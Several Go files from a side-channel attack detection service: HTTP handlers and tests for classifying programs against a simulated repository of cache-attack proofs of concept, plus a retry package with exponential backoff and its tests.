	return verdicts
}

// handleReload is POST /reload: load fresh repository contents through
// Config.Reload and swap them in atomically. In-flight scans keep
// their snapshot; the version bump invalidates verdict-cache entries
// and triggers the next classification's engine rebuild.
func (s *Server) handleReload(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		writeError(w, http.StatusMethodNotAllowed, "POST only")
		return
	}
	if !s.enter() {
		drainingReply(w)
		return
	}
	defer s.inflight.Done()
	if s.cfg.Reload == nil {
		writeError(w, http.StatusNotImplemented, "reload not configured")
		return
	}
	// An empty body means "reload the default source"; anything else
	// must parse.
	var req reloadRequest
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil && !errors.Is(err, io.EOF) {
		writeError(w, http.StatusBadRequest, "bad reload request: "+err.Error())
		return
	}
	if err := faultinject.Fire(faultinject.ServeReload, req.Path); err != nil {
		writeError(w, http.StatusInternalServerError, "reload failed: "+err.Error())
		return
	}
	s.reloadMu.Lock()
	defer s.reloadMu.Unlock()
	fresh, err := s.cfg.Reload(req.Path)
	if err != nil {
		writeError(w, http.StatusInternalServerError, "reload failed: "+err.Error())
		return
	}
	s.det.Repo.Replace(fresh.Entries)
	s.tel.Inc(telemetry.ServeReloads)
	writeJSON(w, http.StatusOK, reloadResponse{
		Entries: s.det.Repo.Len(),
		Version: s.det.Repo.Version(),
	})
}

// handleHealthz is GET /healthz: 200 {"status":"ok"} while serving,
// 503 {"status":"draining"} during shutdown so load balancers route
// away before intake actually stops.
func (s *Server) handleHealthz(w http.ResponseWriter, r *http.Request) {
	s.drainMu.Lock()
	draining := s.draining
	s.drainMu.Unlock()
	resp := healthzResponse{
		Status:   "ok",
		Entries:  s.det.Repo.Len(),
		Version:  s.det.Repo.Version(),
		Draining: draining,
	}
	status := http.StatusOK
	if draining {
		resp.Status = "draining"
		status = http.StatusServiceUnavailable
	}
	writeJSON(w, status, resp)
}
