package serve

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/attacks"
	"repro/internal/detect"
	"repro/internal/faultinject"
	"repro/internal/model"
	"repro/internal/telemetry"
)

// The corpus runs the simulator, so its entries are built once and
// shared; every test gets its own Repository over them (reload tests
// mutate theirs).
var (
	corpusOnce    sync.Once
	corpusEntries []detect.Entry
	corpusErr     error
)

func corpus(t *testing.T) []detect.Entry {
	t.Helper()
	corpusOnce.Do(func() {
		p := attacks.DefaultParams()
		pocs := []attacks.PoC{
			attacks.FlushReloadIAIK(p),
			attacks.PrimeProbeIAIK(p),
			attacks.SpectreFRIdea(p),
			attacks.SpectrePPTrippel(p),
		}
		repo, err := detect.BuildRepository(pocs, model.DefaultConfig())
		if err != nil {
			corpusErr = err
			return
		}
		corpusEntries = repo.Entries
	})
	if corpusErr != nil {
		t.Fatal(corpusErr)
	}
	return corpusEntries
}

func freshRepo(t *testing.T) *detect.Repository {
	t.Helper()
	r := &detect.Repository{}
	r.Replace(corpus(t))
	return r
}

// newTestServer builds a server over a fresh repository and exposes it
// behind httptest. mutate may adjust the config before New.
func newTestServer(t *testing.T, mutate func(*Config)) (*Server, *httptest.Server) {
	t.Helper()
	det := detect.NewDetector(freshRepo(t))
	det.Telemetry = telemetry.NewCollector()
	cfg := Config{Detector: det, Telemetry: det.Telemetry}
	if mutate != nil {
		mutate(&cfg)
	}
	srv := New(cfg)
	ts := httptest.NewServer(srv.Handler())
	t.Cleanup(ts.Close)
	return srv, ts
}

// expectVerdict computes the verdict a direct (no HTTP) classification
// of spec yields, through an independent detector over an identical
// repository — the reference the wire responses must match
// bit-identically.
func expectVerdict(t *testing.T, spec TargetSpec, pos int) Verdict {
	t.Helper()
	det := detect.NewDetector(freshRepo(t))
	id := spec.label(pos)
	prog, victim, err := spec.resolve()
	if err != nil {
		t.Fatalf("resolve %v: %v", spec, err)
	}
	res, m, err := det.ClassifyCtx(context.Background(), prog, victim)
	return verdictFor(id, res, m, err)
}

// canon is the comparison form: encoded JSON, so nil-vs-empty slices
// and float formatting collapse to one representation. Scores survive
// the wire exactly (shortest-decimal round-trip), so equal JSON means
// bit-identical verdicts.
func canon(t *testing.T, v Verdict) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func postJSON(t *testing.T, url string, body any) *http.Response {
	t.Helper()
	b, err := json.Marshal(body)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.Post(url, "application/json", bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

// readNDJSON decodes every verdict line of a streaming response.
func readNDJSON(t *testing.T, r io.Reader) []Verdict {
	t.Helper()
	var out []Verdict
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var v Verdict
		if err := json.Unmarshal(sc.Bytes(), &v); err != nil {
			t.Fatalf("bad verdict line %q: %v", sc.Text(), err)
		}
		out = append(out, v)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

func decodeBody[T any](t *testing.T, resp *http.Response) T {
	t.Helper()
	defer resp.Body.Close()
	var v T
	if err := json.NewDecoder(resp.Body).Decode(&v); err != nil {
		t.Fatal(err)
	}
	return v
}

// TestUnaryGolden proves the service boundary is lossless: verdicts
// served over HTTP are bit-identical to direct Classify calls, for an
// attack of each outcome shape plus a benign program.
func TestUnaryGolden(t *testing.T) {
	_, ts := newTestServer(t, nil)
	specs := []TargetSpec{
		{Spec: "attack:FR-IAIK"},
		{Spec: "attack:S-PP-Trippel"},
		{Spec: "benign:crypto/aes-ttable/7"},
	}
	for _, spec := range specs {
		want := canon(t, expectVerdict(t, spec, 0))
		resp := postJSON(t, ts.URL+"/v1/classify", classifyRequest{Target: &spec})
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: status %d", spec.Spec, resp.StatusCode)
		}
		cr := decodeBody[classifyResponse](t, resp)
		if cr.Verdict == nil {
			t.Fatalf("%s: no verdict", spec.Spec)
		}
		if got := canon(t, *cr.Verdict); got != want {
			t.Errorf("%s: wire verdict diverged\n got %s\nwant %s", spec.Spec, got, want)
		}
	}
}

// TestBatch proves the array form: verdicts align with request
// positions, one unresolvable target becomes one error verdict without
// failing its neighbors, and resolvable targets stay bit-identical.
func TestBatch(t *testing.T) {
	_, ts := newTestServer(t, nil)
	targets := []TargetSpec{
		{Spec: "attack:PP-IAIK"},
		{Spec: "attack:NOPE"},
		{Spec: "benign:crypto/aes-ttable/7"},
	}
	resp := postJSON(t, ts.URL+"/v1/classify", classifyRequest{Targets: targets})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d", resp.StatusCode)
	}
	cr := decodeBody[classifyResponse](t, resp)
	if len(cr.Verdicts) != len(targets) {
		t.Fatalf("got %d verdicts, want %d", len(cr.Verdicts), len(targets))
	}
	for _, i := range []int{0, 2} {
		want := canon(t, expectVerdict(t, targets[i], i))
		if got := canon(t, cr.Verdicts[i]); got != want {
			t.Errorf("slot %d diverged\n got %s\nwant %s", i, got, want)
		}
	}
	if cr.Verdicts[1].Error == "" || !strings.Contains(cr.Verdicts[1].Error, "resolve") {
		t.Errorf("slot 1: want resolve error, got %+v", cr.Verdicts[1])
	}
}

// TestStreamNDJSON proves the streaming endpoint: one verdict line per
// input line, in input order, bad lines isolated to error verdicts, and
// good lines bit-identical to direct classification.
func TestStreamNDJSON(t *testing.T) {
	_, ts := newTestServer(t, nil)
	lines := []TargetSpec{
		{Spec: "attack:FR-IAIK"},
		{Spec: "attack:NOPE"},
		{Spec: "benign:crypto/aes-ttable/7"},
	}
	var body bytes.Buffer
	enc := json.NewEncoder(&body)
	for _, l := range lines {
		if err := enc.Encode(l); err != nil {
			t.Fatal(err)
		}
	}
	resp, err := http.Post(ts.URL+"/v1/classify/stream", "application/x-ndjson", &body)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d", resp.StatusCode)
	}
	got := readNDJSON(t, resp.Body)
	if len(got) != len(lines) {
		t.Fatalf("got %d verdict lines, want %d", len(got), len(lines))
	}
	for _, i := range []int{0, 2} {
		want := canon(t, expectVerdict(t, lines[i], i))
		if g := canon(t, got[i]); g != want {
			t.Errorf("line %d diverged\n got %s\nwant %s", i, g, want)
		}
	}
	if got[1].Error == "" || !strings.Contains(got[1].Error, "resolve") {
		t.Errorf("line 1: want resolve error, got %+v", got[1])
	}
}

// TestOverloadSheds proves saturation degrades to immediate 429s with a
// Retry-After hint, and that capacity freed readmits.
func TestOverloadSheds(t *testing.T) {
	srv, ts := newTestServer(t, func(c *Config) { c.MaxConcurrent = 1 })
	// Occupy the only slot the way an admitted request would.
	srv.gate.slots <- struct{}{}
	resp := postJSON(t, ts.URL+"/v1/classify", classifyRequest{Target: &TargetSpec{Spec: "attack:FR-IAIK"}})
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("saturated: status %d, want 429", resp.StatusCode)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Error("429 without Retry-After header")
	}
	er := decodeBody[errorResponse](t, resp)
	if er.RetryAfterSeconds < 1 {
		t.Errorf("retry_after_seconds = %d, want >= 1", er.RetryAfterSeconds)
	}
	if n := srv.tel.Snapshot().Counters["serve_rejected"]; n == 0 {
		t.Error("serve_rejected counter not incremented")
	}
	// Free the slot: the same request is admitted.
	<-srv.gate.slots
	resp = postJSON(t, ts.URL+"/v1/classify", classifyRequest{Target: &TargetSpec{Spec: "attack:FR-IAIK"}})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("after release: status %d, want 200", resp.StatusCode)
	}
	resp.Body.Close()
}

// TestRateLimitFairness proves per-key limiting is per key: one key
// exhausting its bucket is shed while another key is still admitted.
func TestRateLimitFairness(t *testing.T) {
	_, ts := newTestServer(t, func(c *Config) {
		c.RatePerKey = 0.0001 // effectively no refill within the test
		c.BurstPerKey = 1
	})
	post := func(key string) int {
		b, _ := json.Marshal(classifyRequest{Target: &TargetSpec{Spec: "benign:crypto/aes-ttable/7"}})
		req, err := http.NewRequest(http.MethodPost, ts.URL+"/v1/classify", bytes.NewReader(b))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set(DefaultKeyHeader, key)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return resp.StatusCode
	}
	if got := post("alice"); got != http.StatusOK {
		t.Fatalf("alice first request: %d, want 200", got)
	}
	if got := post("alice"); got != http.StatusTooManyRequests {
		t.Fatalf("alice drained bucket: %d, want 429", got)
	}
	if got := post("bob"); got != http.StatusOK {
		t.Fatalf("bob must not pay for alice: %d, want 200", got)
	}
}

// TestHotReloadUnderLoad hammers /v1/classify from several goroutines
// while /reload swaps the repository repeatedly. Every classification
// must succeed with a clean verdict — in-flight scans keep their
// snapshot, new ones see the new contents — and the version must
// advance once per reload. Run under -race this is the hot-swap safety
// proof.
func TestHotReloadUnderLoad(t *testing.T) {
	entries := corpus(t)
	srv, ts := newTestServer(t, func(c *Config) {
		c.Reload = func(string) (*detect.Repository, error) {
			r := &detect.Repository{}
			r.Replace(entries)
			return r, nil
		}
	})
	startVersion := srv.det.Repo.Version()

	const (
		clients   = 3
		perClient = 3
		reloads   = 5
	)
	var wg sync.WaitGroup
	errs := make(chan string, clients*perClient)
	for c := 0; c < clients; c++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < perClient; i++ {
				resp := postJSON(t, ts.URL+"/v1/classify", classifyRequest{Target: &TargetSpec{Spec: "attack:FR-IAIK"}})
				if resp.StatusCode != http.StatusOK {
					errs <- "status " + resp.Status
					resp.Body.Close()
					continue
				}
				cr := decodeBody[classifyResponse](t, resp)
				if cr.Verdict == nil || cr.Verdict.Error != "" {
					errs <- "bad verdict"
				}
			}
		}()
	}
	for i := 0; i < reloads; i++ {
		resp := postJSON(t, ts.URL+"/reload", reloadRequest{})
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("reload %d: status %d", i, resp.StatusCode)
		}
		rr := decodeBody[reloadResponse](t, resp)
		if rr.Entries != len(entries) {
			t.Fatalf("reload %d: %d entries, want %d", i, rr.Entries, len(entries))
		}
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Errorf("classification failed during reload: %s", e)
	}
	if got := srv.det.Repo.Version(); got != startVersion+reloads {
		t.Errorf("version = %d, want %d", got, startVersion+reloads)
	}
	if n := srv.tel.Snapshot().Counters["serve_reloads"]; n != reloads {
		t.Errorf("serve_reloads = %d, want %d", n, reloads)
	}
}

// TestDrainFlushesInflight proves graceful drain: a request in flight
// when Shutdown starts completes with its real verdict, requests
// arriving during the drain get 503, and Shutdown returns only after
// the in-flight work finished.
func TestDrainFlushesInflight(t *testing.T) {
	srv, ts := newTestServer(t, nil)
	started := make(chan struct{})
	var once sync.Once
	faultinject.Enable(faultinject.ScanWorker, func(faultinject.Point, string) error {
		once.Do(func() { close(started); time.Sleep(300 * time.Millisecond) })
		return nil
	})
	t.Cleanup(faultinject.Reset)

	type result struct {
		status  int
		verdict Verdict
	}
	inflight := make(chan result, 1)
	go func() {
		resp := postJSON(t, ts.URL+"/v1/classify", classifyRequest{Target: &TargetSpec{Spec: "attack:FR-IAIK"}})
		cr := decodeBody[classifyResponse](t, resp)
		var v Verdict
		if cr.Verdict != nil {
			v = *cr.Verdict
		}
		inflight <- result{resp.StatusCode, v}
	}()
	<-started

	shutdown := make(chan error, 1)
	go func() {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		shutdown <- srv.Shutdown(ctx)
	}()
	// Once the drain flag is up, new requests must be turned away.
	for !srv.isDraining() {
		time.Sleep(time.Millisecond)
	}
	resp := postJSON(t, ts.URL+"/v1/classify", classifyRequest{Target: &TargetSpec{Spec: "attack:FR-IAIK"}})
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("during drain: status %d, want 503", resp.StatusCode)
	}
	resp.Body.Close()
	hresp, err := http.Get(ts.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	if hresp.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("healthz during drain: status %d, want 503", hresp.StatusCode)
	}
	if hz := decodeBody[healthzResponse](t, hresp); !hz.Draining || hz.Status != "draining" {
		t.Errorf("healthz during drain: %+v", hz)
	}

	r := <-inflight
	if r.status != http.StatusOK || r.verdict.Error != "" {
		t.Errorf("in-flight request was dropped by drain: status %d verdict %+v", r.status, r.verdict)
	}
	if err := <-shutdown; err != nil {
		t.Errorf("Shutdown: %v", err)
	}
}

// TestDrainUnblocksStream proves a streaming connection blocked reading
// its request body does not stall a drain: the server expires the read,
// flushes verdicts for everything accepted and closes the stream.
func TestDrainUnblocksStream(t *testing.T) {
	srv, ts := newTestServer(t, nil)
	pr, pw := io.Pipe()
	req, err := http.NewRequest(http.MethodPost, ts.URL+"/v1/classify/stream", pr)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	defer pw.Close()
	line, _ := json.Marshal(TargetSpec{Spec: "attack:FR-IAIK"})
	if _, err := pw.Write(append(line, '\n')); err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	if !sc.Scan() {
		t.Fatalf("no verdict line before drain: %v", sc.Err())
	}
	var v Verdict
	if err := json.Unmarshal(sc.Bytes(), &v); err != nil || v.Error != "" {
		t.Fatalf("bad verdict before drain: %q %v", sc.Text(), err)
	}
	// The connection now sits blocked in the body read. Drain must
	// unblock it and end the stream instead of waiting forever.
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := srv.Shutdown(ctx); err != nil {
		t.Fatalf("Shutdown stalled on a blocked stream: %v", err)
	}
	if sc.Scan() {
		t.Errorf("unexpected line after drain: %q", sc.Text())
	}
}

// TestHealthzAndMetrics proves the operational endpoints: healthz
// reports the repository shape, metrics carries the serve counters.
func TestHealthzAndMetrics(t *testing.T) {
	srv, ts := newTestServer(t, nil)
	hresp, err := http.Get(ts.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	if hresp.StatusCode != http.StatusOK {
		t.Fatalf("healthz: status %d", hresp.StatusCode)
	}
	hz := decodeBody[healthzResponse](t, hresp)
	if hz.Status != "ok" || hz.Entries != srv.det.Repo.Len() || hz.Draining {
		t.Errorf("healthz = %+v", hz)
	}

	resp := postJSON(t, ts.URL+"/v1/classify", classifyRequest{Target: &TargetSpec{Spec: "benign:crypto/aes-ttable/7"}})
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()

	mresp, err := http.Get(ts.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	if mresp.StatusCode != http.StatusOK {
		t.Fatalf("metrics: status %d", mresp.StatusCode)
	}
	snap := decodeBody[telemetry.Snapshot](t, mresp)
	if snap.Counters["serve_requests"] == 0 {
		t.Errorf("metrics missing serve_requests: %v", snap.Counters)
	}
	if snap.Gauges == nil || snap.Gauges["serve"] == nil {
		t.Errorf("metrics missing serve gauges: %v", snap.Gauges)
	}
}

// TestRejectsMalformedRequests pins the 4xx surface.
func TestRejectsMalformedRequests(t *testing.T) {
	_, ts := newTestServer(t, nil)
	cases := []struct {
		name string
		body string
		want int
	}{
		{"bad json", "{", http.StatusBadRequest},
		{"no targets", "{}", http.StatusBadRequest},
		{"both forms", `{"target":{"spec":"attack:FR-IAIK"},"targets":[{"spec":"attack:FR-IAIK"}]}`, http.StatusBadRequest},
	}
	for _, c := range cases {
		resp, err := http.Post(ts.URL+"/v1/classify", "application/json", strings.NewReader(c.body))
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != c.want {
			t.Errorf("%s: status %d, want %d", c.name, resp.StatusCode, c.want)
		}
	}
	getResp, err := http.Get(ts.URL + "/v1/classify")
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, getResp.Body)
	getResp.Body.Close()
	if getResp.StatusCode != http.StatusMethodNotAllowed {
		t.Errorf("GET /v1/classify: status %d, want 405", getResp.StatusCode)
	}
}

// TestReloadUnconfigured pins the 501 when no reload source exists.
func TestReloadUnconfigured(t *testing.T) {
	_, ts := newTestServer(t, nil)
	resp := postJSON(t, ts.URL+"/reload", reloadRequest{})
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotImplemented {
		t.Errorf("reload without source: status %d, want 501", resp.StatusCode)
	}
}
