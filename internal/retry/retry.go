// Package retry is the one bounded-retry policy shared by the layers
// that talk to unreliable parties: the streaming pipeline re-running a
// target after a transient error result (stream.Config.Retries) and the
// shard coordinator re-sending a remote-shard RPC after a network
// failure. Keeping it in one place keeps the semantics identical —
// exponential backoff with full jitter, a max-backoff cap,
// context-aware sleeps, and a caller-supplied transience test so
// permanent failures (cancellation, deadline expiry) are never retried.
package retry

import (
	"context"
	"errors"
	"math/rand"
	"time"
)

// Policy describes bounded retries with exponential backoff. The zero
// value never retries.
type Policy struct {
	// Attempts is the number of retries after the first failure; 0
	// disables retrying.
	Attempts int
	// Backoff is the base delay before the first retry; each further
	// retry doubles it (capped by MaxBackoff). 0 retries immediately.
	Backoff time.Duration
	// MaxBackoff caps the exponential growth: no single sleep exceeds
	// it. 0 applies the default cap of 64×Backoff, which also guards the
	// doubling against shift overflow on large attempt counts.
	MaxBackoff time.Duration
	// Jitter randomizes each sleep to a uniform draw from (0, d] where d
	// is the capped exponential delay ("full jitter"). Without it, a
	// fleet of clients that failed together retries in lockstep and
	// re-spikes the very backend they knocked over; with it the retry
	// wave spreads across the whole backoff window.
	Jitter bool
}

// defaultCapFactor bounds the exponential growth when MaxBackoff is
// unset: Backoff << 6. Beyond that the doubling would mostly be
// measuring how long the caller's context takes to expire.
const defaultCapFactor = 6

// Transient is the default transience test: everything is retryable
// except failures caused by the context — a cancelled or expired
// operation stays cancelled no matter how often it is retried.
func Transient(err error) bool {
	return !errors.Is(err, context.Canceled) && !errors.Is(err, context.DeadlineExceeded)
}

// randFloat is the jitter source, swappable by tests for determinism.
// The shared top-level source is fine here: jitter quality needs
// independence, not reproducibility, and retries are never hot enough
// for its lock to matter.
var randFloat = rand.Float64

// delay returns the sleep before retry number attempt (0-based): the
// doubled-and-capped exponential backoff, jittered when configured.
func (p Policy) delay(attempt int) time.Duration {
	if p.Backoff <= 0 {
		return 0
	}
	cap := p.MaxBackoff
	if cap <= 0 {
		cap = p.Backoff << defaultCapFactor
	}
	d := cap
	// Guard the shift: Backoff<<attempt overflows time.Duration (int64)
	// once attempt is large enough, so only shift while the result can
	// still be below the cap.
	if attempt < 63 && p.Backoff<<attempt > 0 && p.Backoff<<attempt < cap {
		d = p.Backoff << attempt
	}
	if p.Jitter {
		// Full jitter over (0, d]: the +1ns floor keeps a jittered policy
		// from collapsing to an unthrottled hot loop on tiny backoffs.
		d = time.Duration(randFloat()*float64(d)) + 1
	}
	return d
}

// Do runs op, retrying up to p.Attempts times while op's error passes
// retryable (nil means Transient) and ctx stays alive. onRetry, when
// non-nil, is called before each retry with the 1-based retry number
// and the error being retried (the telemetry hook). Do returns nil on
// the first success, otherwise the last error.
func (p Policy) Do(ctx context.Context, retryable func(error) bool, onRetry func(n int, err error), op func() error) error {
	if retryable == nil {
		retryable = Transient
	}
	var err error
	for attempt := 0; ; attempt++ {
		if err = op(); err == nil {
			return nil
		}
		if attempt >= p.Attempts || !retryable(err) {
			return err
		}
		if onRetry != nil {
			onRetry(attempt+1, err)
		}
		if d := p.delay(attempt); d > 0 {
			t := time.NewTimer(d)
			select {
			case <-ctx.Done():
				t.Stop()
				return err
			case <-t.C:
			}
		} else if cerr := ctx.Err(); cerr != nil {
			return err
		}
	}
}
