// Package retry is the one bounded-retry policy shared by the layers
// that talk to unreliable parties: the streaming pipeline re-running a
// target after a transient error result (stream.Config.Retries) and the
// shard coordinator re-sending a remote-shard RPC after a network
// failure. Keeping it in one place keeps the semantics identical —
// exponential backoff, context-aware sleeps, and a caller-supplied
// transience test so permanent failures (cancellation, deadline expiry)
// are never retried.
package retry

import (
	"context"
	"errors"
	"time"
)

// Policy describes bounded retries with exponential backoff. The zero
// value never retries.
type Policy struct {
	// Attempts is the number of retries after the first failure; 0
	// disables retrying.
	Attempts int
	// Backoff is the delay before the first retry; each further retry
	// doubles it. 0 retries immediately.
	Backoff time.Duration
}

// Transient is the default transience test: everything is retryable
// except failures caused by the context — a cancelled or expired
// operation stays cancelled no matter how often it is retried.
func Transient(err error) bool {
	return !errors.Is(err, context.Canceled) && !errors.Is(err, context.DeadlineExceeded)
}

// Do runs op, retrying up to p.Attempts times while op's error passes
// retryable (nil means Transient) and ctx stays alive. onRetry, when
// non-nil, is called before each retry with the 1-based retry number
// and the error being retried (the telemetry hook). Do returns nil on
// the first success, otherwise the last error.
func (p Policy) Do(ctx context.Context, retryable func(error) bool, onRetry func(n int, err error), op func() error) error {
	if retryable == nil {
		retryable = Transient
	}
	var err error
	for attempt := 0; ; attempt++ {
		if err = op(); err == nil {
			return nil
		}
		if attempt >= p.Attempts || !retryable(err) {
			return err
		}
		if onRetry != nil {
			onRetry(attempt+1, err)
		}
		if d := p.Backoff << attempt; d > 0 {
			t := time.NewTimer(d)
			select {
			case <-ctx.Done():
				t.Stop()
				return err
			case <-t.C:
			}
		} else if cerr := ctx.Err(); cerr != nil {
			return err
		}
	}
}
