package retry

import (
	"context"
	"errors"
	"testing"
	"time"
)

func TestDoSucceedsAfterTransientFailures(t *testing.T) {
	calls, retries := 0, 0
	err := Policy{Attempts: 3}.Do(context.Background(), nil,
		func(n int, err error) { retries++ },
		func() error {
			calls++
			if calls < 3 {
				return errors.New("transient")
			}
			return nil
		})
	if err != nil {
		t.Fatalf("err = %v", err)
	}
	if calls != 3 || retries != 2 {
		t.Errorf("calls = %d retries = %d, want 3/2", calls, retries)
	}
}

func TestDoExhaustsAttempts(t *testing.T) {
	sentinel := errors.New("still broken")
	calls := 0
	err := Policy{Attempts: 2}.Do(context.Background(), nil, nil, func() error {
		calls++
		return sentinel
	})
	if !errors.Is(err, sentinel) {
		t.Fatalf("err = %v, want sentinel", err)
	}
	if calls != 3 { // first try + 2 retries
		t.Errorf("calls = %d, want 3", calls)
	}
}

func TestDoZeroPolicyNeverRetries(t *testing.T) {
	calls := 0
	err := Policy{}.Do(context.Background(), nil, nil, func() error {
		calls++
		return errors.New("boom")
	})
	if err == nil || calls != 1 {
		t.Fatalf("err = %v calls = %d, want one failing call", err, calls)
	}
}

func TestDoContextErrorsNotRetried(t *testing.T) {
	for _, cerr := range []error{context.Canceled, context.DeadlineExceeded} {
		calls := 0
		err := Policy{Attempts: 5}.Do(context.Background(), nil, nil, func() error {
			calls++
			return cerr
		})
		if !errors.Is(err, cerr) || calls != 1 {
			t.Errorf("%v: err = %v calls = %d, want no retries", cerr, err, calls)
		}
	}
}

func TestDoStopsBackoffOnCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	start := time.Now()
	err := Policy{Attempts: 3, Backoff: time.Hour}.Do(ctx, nil, nil, func() error {
		return errors.New("transient")
	})
	if err == nil {
		t.Fatal("want error")
	}
	if time.Since(start) > time.Second {
		t.Fatal("backoff ignored cancelled context")
	}
}

func TestDoCustomRetryable(t *testing.T) {
	permanent := errors.New("permanent")
	calls := 0
	err := Policy{Attempts: 5}.Do(context.Background(),
		func(err error) bool { return !errors.Is(err, permanent) }, nil,
		func() error { calls++; return permanent })
	if !errors.Is(err, permanent) || calls != 1 {
		t.Errorf("err = %v calls = %d, want immediate permanent failure", err, calls)
	}
}
