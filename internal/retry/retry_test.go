package retry

import (
	"context"
	"errors"
	"testing"
	"time"
)

func TestDoSucceedsAfterTransientFailures(t *testing.T) {
	calls, retries := 0, 0
	err := Policy{Attempts: 3}.Do(context.Background(), nil,
		func(n int, err error) { retries++ },
		func() error {
			calls++
			if calls < 3 {
				return errors.New("transient")
			}
			return nil
		})
	if err != nil {
		t.Fatalf("err = %v", err)
	}
	if calls != 3 || retries != 2 {
		t.Errorf("calls = %d retries = %d, want 3/2", calls, retries)
	}
}

func TestDoExhaustsAttempts(t *testing.T) {
	sentinel := errors.New("still broken")
	calls := 0
	err := Policy{Attempts: 2}.Do(context.Background(), nil, nil, func() error {
		calls++
		return sentinel
	})
	if !errors.Is(err, sentinel) {
		t.Fatalf("err = %v, want sentinel", err)
	}
	if calls != 3 { // first try + 2 retries
		t.Errorf("calls = %d, want 3", calls)
	}
}

func TestDoZeroPolicyNeverRetries(t *testing.T) {
	calls := 0
	err := Policy{}.Do(context.Background(), nil, nil, func() error {
		calls++
		return errors.New("boom")
	})
	if err == nil || calls != 1 {
		t.Fatalf("err = %v calls = %d, want one failing call", err, calls)
	}
}

func TestDoContextErrorsNotRetried(t *testing.T) {
	for _, cerr := range []error{context.Canceled, context.DeadlineExceeded} {
		calls := 0
		err := Policy{Attempts: 5}.Do(context.Background(), nil, nil, func() error {
			calls++
			return cerr
		})
		if !errors.Is(err, cerr) || calls != 1 {
			t.Errorf("%v: err = %v calls = %d, want no retries", cerr, err, calls)
		}
	}
}

func TestDoStopsBackoffOnCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	start := time.Now()
	err := Policy{Attempts: 3, Backoff: time.Hour}.Do(ctx, nil, nil, func() error {
		return errors.New("transient")
	})
	if err == nil {
		t.Fatal("want error")
	}
	if time.Since(start) > time.Second {
		t.Fatal("backoff ignored cancelled context")
	}
}

func TestDelayDoublesAndCaps(t *testing.T) {
	p := Policy{Attempts: 10, Backoff: 10 * time.Millisecond, MaxBackoff: 40 * time.Millisecond}
	want := []time.Duration{10, 20, 40, 40, 40}
	for attempt, w := range want {
		if d := p.delay(attempt); d != w*time.Millisecond {
			t.Errorf("delay(%d) = %v, want %v", attempt, d, w*time.Millisecond)
		}
	}
}

func TestDelayDefaultCap(t *testing.T) {
	p := Policy{Backoff: time.Millisecond}
	if d := p.delay(20); d != time.Millisecond<<defaultCapFactor {
		t.Errorf("delay(20) = %v, want default cap %v", d, time.Millisecond<<defaultCapFactor)
	}
}

func TestDelaySurvivesHugeAttemptCounts(t *testing.T) {
	// Backoff << attempt overflows int64 well before attempt 100; the
	// delay must stay pinned at the cap instead of going negative or
	// zero.
	p := Policy{Backoff: time.Second, MaxBackoff: 8 * time.Second}
	for _, attempt := range []int{40, 62, 63, 64, 100, 1 << 20} {
		if d := p.delay(attempt); d != 8*time.Second {
			t.Errorf("delay(%d) = %v, want cap 8s", attempt, d)
		}
	}
}

func TestDelayFullJitterStaysInWindow(t *testing.T) {
	defer func(f func() float64) { randFloat = f }(randFloat)
	for _, r := range []float64{0, 0.25, 0.5, 0.999} {
		randFloat = func() float64 { return r }
		p := Policy{Backoff: 100 * time.Millisecond, MaxBackoff: 100 * time.Millisecond, Jitter: true}
		d := p.delay(0)
		if d <= 0 || d > 100*time.Millisecond+1 {
			t.Errorf("jittered delay(r=%v) = %v, want within (0, 100ms]", r, d)
		}
		if want := time.Duration(r*float64(100*time.Millisecond)) + 1; d != want {
			t.Errorf("jittered delay(r=%v) = %v, want %v", r, d, want)
		}
	}
}

func TestDelayZeroBackoffStaysImmediate(t *testing.T) {
	// The zero policy — and any policy without a Backoff — must not
	// invent a sleep, jittered or not.
	for _, p := range []Policy{{}, {Attempts: 3}, {Attempts: 3, Jitter: true}, {Attempts: 3, MaxBackoff: time.Second}} {
		if d := p.delay(0); d != 0 {
			t.Errorf("delay(%+v) = %v, want 0", p, d)
